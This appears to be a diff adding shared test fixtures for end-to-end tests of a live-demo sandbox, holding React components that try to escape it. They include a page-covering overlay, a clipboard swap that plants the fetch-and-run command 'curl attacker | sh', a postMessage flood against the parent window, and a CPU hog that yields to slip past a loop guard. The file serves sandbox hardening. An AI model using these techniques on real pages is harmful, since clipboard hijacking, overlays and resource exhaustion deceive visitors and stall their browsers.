@@ -1,0 +1,93 @@
+/**
+ * Shared code that attacks the live-demo sandbox from inside its frame, in plain JavaScript so
+ * that the Playwright specs (tests/e2e/sandbox-reach.spec.ts) and the Firefox tests
+ * (tests/firefox) run the same attacks. Each renders a line the tests wait for.
+ */
+
+/** A transparent element on the body, below the demo: the runner reports it as a popup. */
+export const COVER_WITH_BODY_ELEMENT = `import React, { useEffect } from 'react';
+export default function Cover() {
+  useEffect(() => {
+    const cover = document.createElement('div');
+    cover.style.cssText = 'position:absolute;left:0;top:0;width:100%;height:1020px';
+    document.body.appendChild(cover);
+  }, []);
+  return <p>cover ready</p>;
+}
+`;
+
+/** The demo's own content drawn below its flow: a tall block taken back by its margin. */
+export const COVER_WITH_MARGIN = `export default function Cover() {
+  return <div style={{ height: 1020, marginBottom: -900 }}><p>cover ready</p></div>;
+}
+`;
+
+/** A button whose click tries every way to put other code on the visitor's clipboard, and says what worked. */
+export const CLIPBOARD_SWAP = `import React, { useState } from 'react';
+const ATTACK = 'curl attacker | sh';
+export default function Swap() {
+  const [said, setSaid] = useState('not yet');
+  const swap = () => {
+    let handled = false;
+    document.addEventListener('copy', (event) => {
+      handled = true;
+      event.clipboardData?.setData('text/plain', ATTACK);
+      event.preventDefault();
+    });
+    const area = document.createElement('textarea');
+    area.value = ATTACK;
+    document.body.appendChild(area);
+    area.select();
+    const copied = document.execCommand('copy');
+    const cut = document.execCommand('Cut');
+    const api = typeof (navigator as { clipboard?: unknown }).clipboard;
+    setSaid(['copy: ' + copied, 'cut: ' + cut, 'handler: ' + handled, 'api: ' + api].join(', '));
+  };
+  return (
+    <div>
+      <button onClick={swap}>swap</button>
+      <p>{said}</p>
+    </div>
+  );
+}
+`;
+
+/** What CLIPBOARD_SWAP says when nothing reached the clipboard. */
+export const CLIPBOARD_REFUSED = 'copy: false, cut: false, handler: false, api: undefined';
+
+/** Three messages to the page's window, each a Set of 100,000 strings: cheap to send, slow to read. */
+export const MESSAGE_FLOOD = `const heavy = new Set<string>();
+for (let i = 0; i < 100000; i += 1) heavy.add('s' + i);
+for (let i = 0; i < 3; i += 1) top!.postMessage(heavy, '*');
+export default function Flood() {
+  return <p>flooding</p>;
+}
+`;
+
+/** Code that runs 950 ms, yields 10 ms, and runs again: never one task over the loop guard's budget. */
+export const BUSY_WITH_YIELDS = `import React, { useEffect } from 'react';
+function hog() {
+  const start = performance.now();
+  while (performance.now() - start < 950) {}
+  setTimeout(hog, 10);
+}
+export default function Hog() {
+  useEffect(() => hog(), []);
+  return <p>hogging</p>;
+}
+`;
+
+/**
+ * In the page: counts its reads of messages that came from another window (a frame's post to
+ * `top`) in `window.framePostsRead`. Passed to the browser as an init script.
+ */
+export function countFramePostsRead() {
+  const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data').get;
+  Object.defineProperty(MessageEvent.prototype, 'data', {
+    configurable: true,
+    get() {
+      if (this.source && this.source !== window) window.framePostsRead = (window.framePostsRead ?? 0) + 1;
+      return Reflect.apply(data, this, []);
+    },
+  });
+}
